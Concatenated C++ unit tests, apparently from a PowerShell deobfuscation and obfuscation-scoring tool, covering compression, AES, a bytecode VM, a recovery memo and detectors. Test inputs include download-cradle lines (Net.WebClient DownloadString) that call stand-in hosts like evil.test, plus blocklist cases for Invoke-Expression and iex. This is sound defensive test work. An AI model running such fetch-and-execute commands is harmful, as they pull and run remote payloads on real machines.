  EXPECT_EQ(utf8_length("\xE2\x82\xAC"), 1u);
  const auto cps = utf8_codepoints("a\xE2\x82\xAC");
  ASSERT_EQ(cps.size(), 2u);
  EXPECT_EQ(cps[0], 'a');
  EXPECT_EQ(cps[1], 0x20ACu);
}

TEST(Deflate, RoundTripSimple) {
  const std::string text = "Write-Host hello; Write-Host hello; Write-Host hello";
  const ByteVec data(text.begin(), text.end());
  const ByteVec packed = deflate_compress(data);
  const auto back = inflate(packed);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, data);
  // Repetitive input must actually compress.
  EXPECT_LT(packed.size(), data.size());
}

TEST(Deflate, RoundTripEmpty) {
  const auto back = inflate(deflate_compress({}));
  ASSERT_TRUE(back.has_value());
  EXPECT_TRUE(back->empty());
}

TEST(Deflate, RejectsGarbage) {
  EXPECT_FALSE(inflate({0xFF, 0xFF, 0xFF, 0xFF}).has_value());
  EXPECT_FALSE(inflate({}).has_value());
}

TEST(Deflate, StoredBlock) {
  // Hand-built stored block: BFINAL=1 BTYPE=00, LEN=3, data "abc".
  const ByteVec raw = {0x01, 0x03, 0x00, 0xFC, 0xFF, 'a', 'b', 'c'};
  const auto out = inflate(raw);
  ASSERT_TRUE(out.has_value());
  EXPECT_EQ(std::string(out->begin(), out->end()), "abc");
}

class DeflateRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(DeflateRoundTrip, Identity) {
  std::mt19937 rng(GetParam() * 31 + 7);
  const std::size_t n = rng() % 4096;
  ByteVec data(n);
  // A mix of random and repetitive content exercises literals and matches.
  for (std::size_t i = 0; i < n; ++i) {
    data[i] = (i % 3 == 0) ? static_cast<std::uint8_t>(rng() % 7 + 'a')
                           : static_cast<std::uint8_t>(rng());
  }
  const auto back = inflate(deflate_compress(data));
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, data);
}

INSTANTIATE_TEST_SUITE_P(Seeds, DeflateRoundTrip, ::testing::Range(0, 30));

TEST(Aes, RoundTrip128) {
  ByteVec key(16), iv(16);
  for (int i = 0; i < 16; ++i) {
    key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i + 1);
    iv[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(0xA0 + i);
  }
  const std::string text = "attack at dawn";
  const ByteVec plain(text.begin(), text.end());
  const ByteVec cipher = aes_cbc_encrypt(plain, key, iv);
  EXPECT_EQ(cipher.size() % 16, 0u);
  EXPECT_NE(cipher, plain);
  const auto back = aes_cbc_decrypt(cipher, key, iv);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, plain);
}

TEST(Aes, Fips197Vector) {
  // FIPS-197 appendix B single-block check via CBC with a zero IV.
  const ByteVec key = {0x2b, 0x7e, 0x15, 0x16, 0x28, 0xae, 0xd2, 0xa6,
                       0xab, 0xf7, 0x15, 0x88, 0x09, 0xcf, 0x4f, 0x3c};
  const ByteVec plain = {0x32, 0x43, 0xf6, 0xa8, 0x88, 0x5a, 0x30, 0x8d,
                         0x31, 0x31, 0x98, 0xa2, 0xe0, 0x37, 0x07, 0x34};
  const ByteVec iv(16, 0);
  const ByteVec cipher = aes_cbc_encrypt(plain, key, iv);
  const ByteVec expected_first = {0x39, 0x25, 0x84, 0x1d, 0x02, 0xdc, 0x09, 0xfb,
                                  0xdc, 0x11, 0x85, 0x97, 0x19, 0x6a, 0x0b, 0x32};
  ASSERT_GE(cipher.size(), 16u);
  EXPECT_TRUE(std::equal(expected_first.begin(), expected_first.end(), cipher.begin()));
}

TEST(Aes, Fips197Aes256Vector) {
  // FIPS-197 appendix C.3: AES-256 single block, checked via CBC zero IV.
  ByteVec key(32), plain(16);
  for (int i = 0; i < 32; ++i) key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i);
  const std::uint8_t pt[16] = {0x00, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77,
                               0x88, 0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff};
  std::copy(pt, pt + 16, plain.begin());
  const ByteVec iv(16, 0);
  const ByteVec cipher = aes_cbc_encrypt(plain, key, iv);
  const std::uint8_t expected[16] = {0x8e, 0xa2, 0xb7, 0xca, 0x51, 0x67, 0x45,
                                     0xbf, 0xea, 0xfc, 0x49, 0x90, 0x4b, 0x49,
                                     0x60, 0x89};
  ASSERT_GE(cipher.size(), 16u);
  EXPECT_TRUE(std::equal(expected, expected + 16, cipher.begin()));
}

TEST(Aes, WrongKeyFailsPadding) {
  ByteVec key(16, 1), wrong(16, 2), iv(16, 3);
  const ByteVec cipher = aes_cbc_encrypt({'h', 'i'}, key, iv);
  const auto back = aes_cbc_decrypt(cipher, wrong, iv);
  // PKCS7 check almost always fails with a wrong key; if it decodes, content
  // must differ.
  if (back.has_value()) {
    EXPECT_NE(std::string(back->begin(), back->end()), "hi");
  }
}

class AesRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(AesRoundTrip, AllKeySizes) {
  std::mt19937 rng(GetParam() + 1234);
  for (std::size_t key_size : {16u, 24u, 32u}) {
    ByteVec key(key_size), iv(16);
    for (auto& b : key) b = static_cast<std::uint8_t>(rng());
    for (auto& b : iv) b = static_cast<std::uint8_t>(rng());
    ByteVec plain(rng() % 200);
    for (auto& b : plain) b = static_cast<std::uint8_t>(rng());
    const auto back = aes_cbc_decrypt(aes_cbc_encrypt(plain, key, iv), key, iv);
    ASSERT_TRUE(back.has_value());
    EXPECT_EQ(*back, plain);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, AesRoundTrip, ::testing::Range(0, 15));

TEST(SecureString, ProtectUnprotect) {
  ByteVec key(16);
  for (int i = 0; i < 16; ++i) key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i + 1);
  ByteVec iv(16, 0x42);
  const std::string blob = securestring::protect("https://evil.test/x.ps1", key, iv);
  EXPECT_TRUE(looks_like_base64(blob));
  const auto plain = securestring::unprotect(blob, key);
  ASSERT_TRUE(plain.has_value());
  EXPECT_EQ(*plain, "https://evil.test/x.ps1");
}

TEST(SecureString, WrongKeyFails) {
  ByteVec key(16, 7), wrong(16, 8), iv(16, 1);
  const std::string blob = securestring::protect("secret", key, iv);
  const auto plain = securestring::unprotect(blob, wrong);
  if (plain.has_value()) EXPECT_NE(*plain, "secret");
}

}  // namespace
}  // namespace ps
