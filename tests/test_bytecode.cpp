// Differential tests for the per-piece bytecode compiler and VM
// (src/psinterp/bytecode.h): every compiled piece must behave exactly like
// the tree walker it replaces — same literals, same thrown failure kinds,
// same step accounting — across the whole synthetic corpus. Plus the
// sharded RecoveryMemo's thread-safety and the engine-global memo wiring.

#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "core/blocklist.h"
#include "core/deobfuscator.h"
#include "core/recovery.h"
#include "corpus/corpus.h"
#include "psast/ast.h"
#include "psast/parser.h"
#include "psinterp/bytecode.h"
#include "psinterp/interpreter.h"

namespace {

using ideobf::value_to_literal;
using ps::Ast;
using ps::NodeKind;
using ps::Value;

ps::InterpreterOptions recovery_opts(std::size_t max_steps = 200000) {
  ps::InterpreterOptions opts;
  opts.max_steps = max_steps;
  opts.strict_variables = true;
  opts.refuse_blocklisted = true;
  opts.command_filter = ideobf::make_recovery_filter({});
  return opts;
}

/// The comparable outcome of one piece evaluation: either a recovered
/// literal or a classified failure. Two evaluation paths are equivalent iff
/// their outcomes compare equal.
struct Outcome {
  bool ok = false;
  std::string literal;  ///< value_to_literal of the result when ok
  std::string kind;     ///< exception taxonomy tag when !ok
  std::string error;    ///< what() when !ok

  bool operator==(const Outcome&) const = default;
};

std::string describe(const Outcome& o) {
  return o.ok ? "ok literal=<" + o.literal + ">"
              : "throw " + o.kind + " <" + o.error + ">";
}

template <typename Fn>
Outcome capture(Fn&& eval) {
  Outcome out;
  try {
    out.literal = value_to_literal(eval());
    out.ok = true;
  } catch (const ps::BlockedCommandError& e) {
    out.kind = "blocked";
    out.error = e.what();
  } catch (const ps::LimitError& e) {
    out.kind = "limit:" + std::string(ps::to_string(e.kind));
    out.error = e.what();
  } catch (const ps::EvalError& e) {
    out.kind = "eval";
    out.error = e.what();
  } catch (const std::exception& e) {
    out.kind = "other";
    out.error = e.what();
  }
  return out;
}

Outcome tree_walk(const Ast& node, std::string_view src,
                  std::size_t max_steps = 200000) {
  ps::Interpreter interp(recovery_opts(max_steps));
  return capture([&] { return interp.evaluate(node, src); });
}

Outcome vm_run(const ps::bytecode::Chunk& chunk,
               std::size_t max_steps = 200000) {
  ps::Interpreter interp(recovery_opts(max_steps));
  return capture([&] { return ps::bytecode::run_chunk(chunk, interp); });
}

/// Collects every node of `root` the recovery phase would consider
/// executing: the recoverable kinds plus interpolated strings.
std::vector<const Ast*> piece_candidates(const Ast& root) {
  std::vector<const Ast*> out;
  root.post_order([&](const Ast& node) {
    if (ps::is_recoverable_kind(node.kind()) ||
        node.kind() == NodeKind::ExpandableStringExpression) {
      out.push_back(&node);
    }
  });
  return out;
}

/// The smallest max_steps under which `eval` succeeds (or 0 when it fails
/// for a non-limit reason even with generous steps). Exact step parity
/// between the tree walker and the VM makes this identical for both.
template <typename Fn>
std::size_t min_steps_to_succeed(Fn&& eval) {
  for (std::size_t steps = 1; steps <= 256; ++steps) {
    const Outcome o = eval(steps);
    if (o.ok) return steps;
    if (o.kind.rfind("limit:", 0) != 0) return 0;
  }
  return 0;
}

// --- compiler coverage ------------------------------------------------------

const Ast* single_statement(const ps::ScriptBlockAst& root) {
  const Ast* found = nullptr;
  for (const auto& block : root.named_blocks) {
    for (const auto& st : block->statements) {
      if (found != nullptr) return nullptr;
      found = st.get();
    }
  }
  return found;
}

std::shared_ptr<ps::bytecode::Chunk> compile_text(const std::string& text,
                                                  ps::ParsedScript& keep_alive) {
  keep_alive = ps::try_parse(text);
  if (keep_alive == nullptr) return nullptr;
  const Ast* stmt = single_statement(*keep_alive);
  if (stmt == nullptr) return nullptr;
  return ps::bytecode::compile_piece(*stmt);
}

TEST(BytecodeTest, CompilesExpressionSubsetAndClassifiesPurity) {
  struct Case {
    const char* text;
    bool pure;
  };
  const Case compilable[] = {
      {"('a'+'b')", true},
      {"'a' * 3", true},
      {"[char]65", true},
      {"[int]'5' + 1", true},
      {"'a','b','c'", true},
      {"@('x')", true},
      {"@()", true},
      {"$()", true},
      {"$( 'x' )", true},
      {"('abc')[1]", true},
      {"-join ('a','b')", true},
      {"$true -and $false", true},
      {"\"plain\"", true},           // no '$': interpolation is constant
      {"$true", true},               // constant automatic variable
      {"\"pre $x post\"", false},    // interpolation reads a variable
      {"$x + 1", false},             // traced-table variable
      {"$env:path", false},          // environment state
  };
  for (const Case& c : compilable) {
    ps::ParsedScript parsed;
    const auto chunk = compile_text(c.text, parsed);
    ASSERT_NE(chunk, nullptr) << c.text;
    EXPECT_TRUE(chunk->valid()) << c.text;
    EXPECT_EQ(chunk->pure, c.pure) << c.text;
  }
}

TEST(BytecodeTest, RejectsEverythingOutsideTheSubset) {
  // Commands (where the blocklist applies), member dispatch, mutation, and
  // multi-statement shapes must stay on the tree walker.
  const char* rejected[] = {
      "Invoke-Expression 'x'",       // command: blocklist territory
      "iex 'x'",                     // aliased command
      "'abc'.Length",                // member access
      "'abc'.Substring(1)",          // member invocation
      "[math]::Abs(-1)",             // static invocation
      "$x++",                        // stateful unary
      "--$x",                        // stateful unary
      "$x = 1",                      // assignment
      "@{a=1}",                      // hashtable
      "{ 'block' }",                 // script block
      "$(1; 2)",                     // multi-statement subexpression
      "'a' | ForEach-Object { $_ }", // multi-element pipeline
  };
  for (const char* text : rejected) {
    ps::ParsedScript parsed;
    EXPECT_EQ(compile_text(text, parsed), nullptr) << text;
  }
}

// --- differential equivalence ----------------------------------------------

TEST(BytecodeTest, HandwrittenPiecesMatchTreeWalk) {
  const char* pieces[] = {
      "('a'+'b')",
      "('Ne'+'tw'+'or'+'k')",
      "'a' * 3",
      "[char]65",
      "[char](65+1)",
      "[string][char]73",
      "[int]'5' + 1",
      "('abc')[1]",
      "('abc')[-1]",
      "('a','b','c')[2]",
      "-join ('a','b','c')",
      "('a,b,c' -split ',')[1]",
      "'ABC'.ToLower()",  // rejected by the compiler? no — member: skipped
      "\"plain text\"",
      "$true",
      "$false -or 'fallback'",
      "$true -and 'kept'",
      "(2 + 3) * 4",
      "10 / 4",
      "'x' + [string](1+2)",
      "$( 'sub' )",
      "@('only')",
      "@()",
      "$()",
      "'end' -replace 'e','E'",
      "'format {0}' -f 'x'",
  };
  int compiled = 0;
  for (const char* text : pieces) {
    ps::ParsedScript parsed;
    const auto chunk = compile_text(text, parsed);
    if (chunk == nullptr) continue;  // uncompilable shapes fall back anyway
    ++compiled;
    const Ast* stmt = single_statement(*parsed);
    const Outcome tw = tree_walk(*stmt, text);
    const Outcome vm = vm_run(*chunk);
    EXPECT_EQ(tw, vm) << text << "\n  tree-walk: " << describe(tw)
                      << "\n  vm:        " << describe(vm);
  }
  EXPECT_GT(compiled, 15);
}

TEST(BytecodeTest, StepAccountingMatchesTreeWalkExactly) {
  // Tick parity is what makes budget expiry equivalent on both paths: the
  // smallest step allowance under which a piece succeeds must be identical.
  const char* pieces[] = {
      "('a'+'b')",
      "('a'+'b'+'c'+'d')",
      "[char]65",
      "('abc')[1]",
      "-join ('a','b')",
      "$true -and $false",
      "$false -or 'x'",
      "$( 'sub' )",
      "@('only')",
      "(2 + 3) * 4",
  };
  for (const char* text : pieces) {
    ps::ParsedScript parsed;
    const auto chunk = compile_text(text, parsed);
    ASSERT_NE(chunk, nullptr) << text;
    const Ast* stmt = single_statement(*parsed);
    const std::size_t tw_steps = min_steps_to_succeed(
        [&](std::size_t steps) { return tree_walk(*stmt, text, steps); });
    const std::size_t vm_steps = min_steps_to_succeed(
        [&](std::size_t steps) { return vm_run(*chunk, steps); });
    ASSERT_GT(tw_steps, 0u) << text;
    EXPECT_EQ(tw_steps, vm_steps) << text;
  }
}

TEST(BytecodeTest, StepLimitExpiryMatchesTreeWalk) {
  // Under a starved allowance both paths must fail the same way (the
  // recovery ladder memoizes failures, so a path-dependent failure would
  // poison the memo differently per path).
  const char* text = "('a'+'b'+'c'+'d'+'e'+'f'+'g'+'h')";
  ps::ParsedScript parsed;
  const auto chunk = compile_text(text, parsed);
  ASSERT_NE(chunk, nullptr);
  const Ast* stmt = single_statement(*parsed);
  const Outcome tw = tree_walk(*stmt, text, 3);
  const Outcome vm = vm_run(*chunk, 3);
  EXPECT_FALSE(tw.ok);
  EXPECT_EQ(tw.kind, "limit:step-limit");
  EXPECT_EQ(tw, vm) << "tree-walk: " << describe(tw)
                    << "\nvm:        " << describe(vm);
}

/// The corpus sweep: every recoverable piece of every generated script that
/// the compiler accepts must evaluate identically on both paths — at full
/// limits and under a starved step allowance (budget-expiry parity).
TEST(BytecodeDifferentialTest, CorpusPiecesMatchTreeWalk) {
  ideobf::CorpusGenerator gen(100);  // the bench corpus seed
  int compiled = 0;
  int divergences = 0;
  for (const ideobf::Sample& sample : gen.generate_batch(60)) {
    const std::string& src = sample.obfuscated;
    const ps::ParsedScript parsed = ps::try_parse(src);
    if (parsed == nullptr) continue;
    for (const Ast* node : piece_candidates(*parsed)) {
      const auto chunk = ps::bytecode::compile_piece(*node);
      if (chunk == nullptr) continue;
      ++compiled;
      const Outcome tw = tree_walk(*node, src);
      const Outcome vm = vm_run(*chunk);
      if (tw != vm) {
        ++divergences;
        ADD_FAILURE() << "divergence on piece <" << node->text_in(src)
                      << ">\n  tree-walk: " << describe(tw)
                      << "\n  vm:        " << describe(vm);
      }
      // Budget-expiry parity: a starved allowance must fail (or succeed)
      // identically too.
      const Outcome tw_tight = tree_walk(*node, src, 6);
      const Outcome vm_tight = vm_run(*chunk, 6);
      if (tw_tight != vm_tight) {
        ++divergences;
        ADD_FAILURE() << "tight-limit divergence on piece <"
                      << node->text_in(src)
                      << ">\n  tree-walk: " << describe(tw_tight)
                      << "\n  vm:        " << describe(vm_tight);
      }
      if (divergences > 10) return;  // enough signal; stop flooding
    }
  }
  // The corpus is concat/cast/index-heavy, so the compiler must accept a
  // substantial population — this also guards against the compiler silently
  // rejecting everything (which would pass the loop vacuously).
  EXPECT_GT(compiled, 200);
}

// --- RecoveryMemo -----------------------------------------------------------

TEST(RecoveryMemoTest, StoreLookupRoundTrip) {
  ideobf::RecoveryMemo memo;
  EXPECT_EQ(memo.lookup(1, "piece"), std::nullopt);
  memo.store(1, "piece", "'literal'");
  const auto hit = memo.lookup(1, "piece");
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(*hit, "'literal'");
  // Same piece under a different context is a distinct entry.
  EXPECT_EQ(memo.lookup(2, "piece"), std::nullopt);
  // Failures memoize as "" and still count as hits.
  memo.store(1, "failed", "");
  const auto failed = memo.lookup(1, "failed");
  ASSERT_TRUE(failed.has_value());
  EXPECT_EQ(*failed, "");
  EXPECT_EQ(memo.lookups(), 4u);
  EXPECT_EQ(memo.hits(), 2u);
  EXPECT_EQ(memo.misses(), 2u);
}

TEST(RecoveryMemoTest, CapBoundsGrowth) {
  ideobf::RecoveryMemo memo;
  for (int i = 0; i < 20000; ++i) {
    memo.store(7, "piece-" + std::to_string(i), "'v'");
  }
  // 16 shards x 512 entries: the pathological-script bound.
  EXPECT_LE(memo.size(), 8192u);
  EXPECT_GT(memo.size(), 0u);
}

TEST(RecoveryMemoTest, ConcurrentStoresAndLookupsStayConsistent) {
  ideobf::RecoveryMemo memo;
  constexpr int kThreads = 8;
  constexpr int kKeys = 64;  // shared across threads: real contention
  std::atomic<int> wrong{0};
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&memo, &wrong] {
      for (int round = 0; round < 400; ++round) {
        const int k = round % kKeys;
        const std::string piece = "piece-" + std::to_string(k);
        const std::string literal = "'v" + std::to_string(k) + "'";
        if (const auto hit = memo.lookup(static_cast<std::size_t>(k), piece)) {
          // Every writer stores the same value for a key, so a hit may only
          // ever observe that value — torn or mixed entries are bugs.
          if (*hit != literal) wrong.fetch_add(1);
        } else {
          memo.store(static_cast<std::size_t>(k), piece, literal);
        }
      }
    });
  }
  for (std::thread& th : threads) th.join();
  EXPECT_EQ(wrong.load(), 0);
  EXPECT_LE(memo.size(), static_cast<std::size_t>(kKeys));
  for (int k = 0; k < kKeys; ++k) {
    const auto hit =
        memo.lookup(static_cast<std::size_t>(k), "piece-" + std::to_string(k));
    ASSERT_TRUE(hit.has_value()) << k;
    EXPECT_EQ(*hit, "'v" + std::to_string(k) + "'");
  }
}

TEST(RecoveryMemoTest, EngineGlobalMemoSpansCalls) {
  // With share_memo (the default) the engine owns one memo across calls:
  // a second deobfuscation of the same script must answer every piece
  // lookup from the memo populated by the first.
  ideobf::CorpusGenerator gen(7);
  const std::string script = gen.generate().obfuscated;

  ideobf::InvokeDeobfuscator engine;
  ideobf::DeobfuscationReport first, second;
  const std::string out1 = engine.deobfuscate(script, first);
  const std::string out2 = engine.deobfuscate(script, second);
  EXPECT_EQ(out1, out2);
  EXPECT_GT(second.recovery.memo_hits, 0);
  EXPECT_EQ(second.recovery.memo_misses, 0);

  // Opting out reverts to a per-run memo: the second call misses again.
  ideobf::Options isolated;
  isolated.recovery.share_memo = false;
  ideobf::InvokeDeobfuscator private_engine(isolated);
  ideobf::DeobfuscationReport p1, p2;
  const std::string pout1 = private_engine.deobfuscate(script, p1);
  const std::string pout2 = private_engine.deobfuscate(script, p2);
  EXPECT_EQ(pout1, pout2);
  EXPECT_EQ(pout1, out1);  // sharing never changes output
  EXPECT_EQ(p2.recovery.memo_misses, p1.recovery.memo_misses);
}

TEST(RecoveryMemoTest, LadderStatsSurfaceInTheReport) {
  // A cold run resolves pieces through the ladder; the per-stage counts
  // must reach the public report and reconcile with the memo counters.
  ideobf::CorpusGenerator gen(11);
  ideobf::InvokeDeobfuscator engine;
  ideobf::DeobfuscationReport report;
  int folded = 0, vm = 0, fallback = 0, misses = 0;
  for (const ideobf::Sample& sample : gen.generate_batch(12)) {
    (void)engine.deobfuscate(sample.obfuscated, report);
    folded += report.recovery.pieces_folded;
    vm += report.recovery.bytecode_execs;
    fallback += report.recovery.treewalk_fallbacks;
    misses += report.recovery.memo_misses;
    // Every memoized miss was resolved by exactly one ladder stage. (Env
    // probes count as memo misses but not piece executions, so the stage
    // sum never exceeds the misses.)
    EXPECT_LE(report.recovery.pieces_folded + report.recovery.bytecode_execs +
                  report.recovery.treewalk_fallbacks,
              report.recovery.memo_misses);
  }
  EXPECT_GT(folded, 0);
  EXPECT_GT(fallback, 0);
  EXPECT_GT(misses, 0);
  (void)vm;  // may be zero on a small sample; the bench gates it corpus-wide
}

}  // namespace
