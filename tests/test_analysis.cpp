// Tests for the obfuscation scorer (paper section IV-B2), the key-info
// extractor (Fig 5) and the randomness statistics (section III-C).

#include <gtest/gtest.h>

#include "analysis/keyinfo.h"
#include "analysis/randomness.h"
#include "analysis/scorer.h"
#include "obfuscator/obfuscator.h"

namespace ideobf {
namespace {

TEST(Randomness, VowelStatistics) {
  const NameStatistics st = name_statistics("hello");
  EXPECT_EQ(st.letters, 5u);
  EXPECT_EQ(st.vowels, 2u);
  EXPECT_DOUBLE_EQ(st.vowel_ratio(), 0.4);
}

TEST(Randomness, EnglishIsNotRandom) {
  EXPECT_FALSE(looks_random("payloadserver"));
  EXPECT_FALSE(names_look_random({"download", "server", "payload"}));
  // Per the paper's Hayden-based interval the decision is made over the
  // whole identifier set, which keeps single low-vowel words from flipping
  // the joint decision.
  EXPECT_FALSE(names_look_random({"downloadString", "remoteHost", "payload"}));
}

TEST(Randomness, ConsonantSoupIsRandom) {
  EXPECT_TRUE(looks_random("xdjmdqzw"));
  EXPECT_TRUE(names_look_random({"xdjmd", "lsffs", "sdfs"}));
}

TEST(Randomness, SpecialCharactersAreRandom) {
  EXPECT_TRUE(looks_random("_$$_123__45"));
}

TEST(Randomness, ShortNamesAreNotJudged) {
  EXPECT_FALSE(looks_random("url"));
  EXPECT_FALSE(looks_random("a"));
}

TEST(Randomness, RandomCaseDetection) {
  EXPECT_TRUE(has_random_case("WrItE-hOsT"));
  EXPECT_TRUE(has_random_case("dOwNloAdStRing"));
  EXPECT_FALSE(has_random_case("Write-Host"));
  EXPECT_FALSE(has_random_case("DownloadString"));  // Pascal
  EXPECT_FALSE(has_random_case("write-host"));
  EXPECT_FALSE(has_random_case("IEX"));  // single case
  EXPECT_FALSE(has_random_case("Net.WebClient"));
}

// -------------------------------------------------------------- scorer

TEST(Scorer, CleanScriptScoresLow) {
  const int s = obfuscation_score("Write-Host 'hello world'");
  EXPECT_LE(s, 1);
}

class ScorerDetects : public ::testing::TestWithParam<Technique> {};

TEST_P(ScorerDetects, AppliedTechniqueIsFound) {
  const Technique t = GetParam();
  Obfuscator obf(31 + static_cast<int>(t));
  const std::string clean =
      "Get-ChildItem 'C:\\temp'\n$payload = 'http://evil.test/malware-file.ps1'\n"
      "Write-Host $payload\n";
  const std::string obfuscated = obf.apply(t, clean);
  ASSERT_NE(obfuscated, clean) << to_string(t);
  const ObfuscationFindings f = detect_obfuscation(obfuscated);
  EXPECT_TRUE(f.has(t)) << to_string(t) << "\n" << obfuscated;
  EXPECT_GT(f.score(), 0);
}

INSTANTIATE_TEST_SUITE_P(
    AllTechniques, ScorerDetects, ::testing::ValuesIn(all_techniques()),
    [](const ::testing::TestParamInfo<Technique>& info) {
      return std::string(to_string(info.param));
    });

TEST(Scorer, ScoreSumsLevelsOncePerType) {
  ObfuscationFindings f;
  f.techniques = {Technique::Ticking, Technique::Concat, Technique::Base64Encoding};
  EXPECT_EQ(f.score(), 1 + 2 + 3);
  EXPECT_EQ(f.count_at_level(1), 1);
  EXPECT_EQ(f.count_at_level(2), 1);
  EXPECT_EQ(f.count_at_level(3), 1);
}

TEST(Scorer, DeobfuscationReducesScore) {
  Obfuscator obf(555);
  std::string script =
      "$stage = 'http://evil.test/payload-loader.ps1'\nWrite-Host $stage\n";
  script = obf.apply(Technique::Base64Encoding, script);
  script = obf.apply(Technique::Concat, script);
  script = obf.apply(Technique::RandomCase, script);
  script = obf.apply(Technique::Ticking, script);
  const int before = obfuscation_score(script);
  EXPECT_GE(before, 4);
}

// -------------------------------------------------------------- keyinfo

TEST(KeyInfo, ExtractsAllFourTypes) {
  const KeyInfo info = extract_key_info(
      "powershell -File C:\\temp\\stage.ps1\n"
      "(New-Object Net.WebClient).DownloadString('https://bad.example/x')\n"
      "$ip = '192.168.7.13'");
  EXPECT_EQ(info.urls.size(), 1u);
  EXPECT_TRUE(info.urls.count("https://bad.example/x"));
  EXPECT_EQ(info.ips.size(), 1u);
  EXPECT_TRUE(info.ips.count("192.168.7.13"));
  EXPECT_EQ(info.ps1_files.size(), 1u);
  EXPECT_EQ(info.powershell_commands, 1);
  EXPECT_EQ(info.total(), 4);
}

TEST(KeyInfo, RejectsBadIps) {
  const KeyInfo info = extract_key_info("'999.1.2.3' '1.2.3' '0.0.0.300'");
  EXPECT_TRUE(info.ips.empty());
}

TEST(KeyInfo, RecoveredIn) {
  const KeyInfo truth = extract_key_info(
      "'http://a.test/x' '10.0.0.1' 'run.ps1' powershell");
  const KeyInfo partial = extract_key_info("'http://a.test/x' powershell");
  EXPECT_EQ(truth.recovered_in(partial), 2);
  EXPECT_EQ(truth.recovered_in(truth), truth.total());
  EXPECT_EQ(truth.recovered_in(KeyInfo{}), 0);
}

TEST(KeyInfo, ObfuscationHidesAndDeobfuscationRestores) {
  Obfuscator obf(9001);
  const std::string clean =
      "(New-Object Net.WebClient).DownloadString('http://evil.test/payload.ps1')";
  const KeyInfo truth = extract_key_info(clean);
  ASSERT_EQ(truth.urls.size(), 1u);
  const std::string hidden = obf.apply(Technique::Base64Encoding, clean);
  const KeyInfo after = extract_key_info(hidden);
  EXPECT_EQ(truth.recovered_in(after), 0) << hidden;
}

}  // namespace
}  // namespace ideobf
