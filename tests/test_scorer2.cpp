// Second scorer battery: false-positive discipline on clean scripts, and
// detector precision against near-miss constructs.

#include <gtest/gtest.h>

#include "analysis/scorer.h"
#include "core/deobfuscator.h"
#include "corpus/corpus.h"

namespace ideobf {
namespace {

TEST(Scorer2, CleanScriptsScoreNearZero) {
  const char* clean[] = {
      "Write-Host 'hello'",
      "$total = 0\nforeach ($i in 1..10) { $total += $i }\nWrite-Host $total",
      "function Get-Greeting($name) { return ('hello ' + $name) }",
      "Get-ChildItem 'C:\\temp' | Sort-Object | Select-Object -First 5",
  };
  for (const char* s : clean) {
    const ObfuscationFindings f = detect_obfuscation(s);
    // 'gci'-style aliases or a single short concat may add a point or two,
    // but clean scripts never look heavily obfuscated.
    EXPECT_LE(f.score(), 3) << s;
    EXPECT_FALSE(f.has(Technique::Base64Encoding)) << s;
    EXPECT_FALSE(f.has(Technique::SecureString)) << s;
  }
}

TEST(Scorer2, NormalEnglishBase64LookalikeIsNotFlagged) {
  // A long single-case word is alphabet-valid base64 but the wrong length.
  const ObfuscationFindings f =
      detect_obfuscation("Write-Host 'antidisestablishmentarianism!'");
  EXPECT_FALSE(f.has(Technique::Base64Encoding));
}

TEST(Scorer2, TrueBase64LiteralIsFlagged) {
  const ObfuscationFindings f = detect_obfuscation(
      "$p = 'VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA='");
  EXPECT_TRUE(f.has(Technique::Base64Encoding));
}

TEST(Scorer2, PascalNamesAreNotRandomCase) {
  const ObfuscationFindings f = detect_obfuscation(
      "New-Object Net.WebClient | Get-Member");
  EXPECT_FALSE(f.has(Technique::RandomCase));
}

TEST(Scorer2, ReplaceMethodOnVariablesCounts) {
  EXPECT_TRUE(detect_obfuscation("$s.Replace('a','b')").has(Technique::Replace));
  EXPECT_TRUE(detect_obfuscation("'x' -replace 'a','b'").has(Technique::Replace));
}

TEST(Scorer2, ReverseDetectors) {
  EXPECT_TRUE(detect_obfuscation("-join 'cba'[-1..-3]").has(Technique::Reverse));
  EXPECT_TRUE(detect_obfuscation("[regex]::Matches($s,'.','RightToLeft')")
                  .has(Technique::Reverse));
  EXPECT_FALSE(detect_obfuscation("$a[-1]").has(Technique::Reverse));
}

TEST(Scorer2, EncodingBasesDistinguished) {
  EXPECT_TRUE(detect_obfuscation("[Convert]::ToInt32($_,16)")
                  .has(Technique::HexEncoding));
  EXPECT_TRUE(detect_obfuscation("[Convert]::ToInt32($_,8)")
                  .has(Technique::OctalEncoding));
  EXPECT_TRUE(detect_obfuscation("[Convert]::ToInt32($_,2)")
                  .has(Technique::BinaryEncoding));
}

TEST(Scorer2, BxorBeatsAsciiWhenCombined) {
  const ObfuscationFindings f =
      detect_obfuscation("1,2 | % { [char]($_ -bxor 0x4B) }");
  EXPECT_TRUE(f.has(Technique::Bxor));
}

TEST(Scorer2, DeobfuscatedCorpusScoresFarBelowObfuscated) {
  CorpusGenerator gen(88);
  InvokeDeobfuscator deobf;
  int before = 0, after = 0;
  for (const Sample& s : gen.generate_batch(30)) {
    before += obfuscation_score(s.obfuscated);
    after += obfuscation_score(deobf.deobfuscate(s.obfuscated));
  }
  EXPECT_LT(after, before / 2) << "before=" << before << " after=" << after;
}

TEST(Scorer2, CountAtLevelPartitionsScore) {
  CorpusGenerator gen(12);
  for (const Sample& s : gen.generate_batch(10)) {
    const ObfuscationFindings f = detect_obfuscation(s.obfuscated);
    const int reconstructed = f.count_at_level(1) * 1 + f.count_at_level(2) * 2 +
                              f.count_at_level(3) * 3;
    EXPECT_EQ(reconstructed, f.score());
  }
}

}  // namespace
}  // namespace ideobf
