// Memory-model tests for the arena/zero-copy layer: bump-pointer Arena
// lifetime and finalizer discipline, ArenaPtr semantics, token string_views
// surviving TokenStream moves/copies, and arena-backed cached parses
// outliving their ParseCache entry.

